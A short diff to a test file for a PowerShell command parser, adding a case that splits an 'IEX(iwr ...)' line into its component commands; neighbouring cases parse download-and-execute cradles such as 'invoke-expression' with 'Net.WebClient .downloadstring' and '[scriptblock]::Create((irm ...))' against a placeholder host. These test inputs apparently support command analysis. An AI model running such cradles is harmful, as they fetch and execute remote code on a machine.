@@ -35,6 +35,10 @@ describe("model/shell/powershell", () => {
       ["invoke-expression ?", "new-object Net.WebClient", ".downloadstring https://a.test"],
     ],
     [
+      "IEX(iwr a) -b:(c); a | %{ d }",
+      ["invoke-expression ? ?", "invoke-webrequest a", "c", "a", "foreach-object ?", "d"],
+    ],
+    [
       "& ([scriptblock]::Create((irm https://a.test)))",
       ["? ", "[scriptblock]::create ?", "invoke-restmethod https://a.test"].map((one) => one.trim()),
     ],
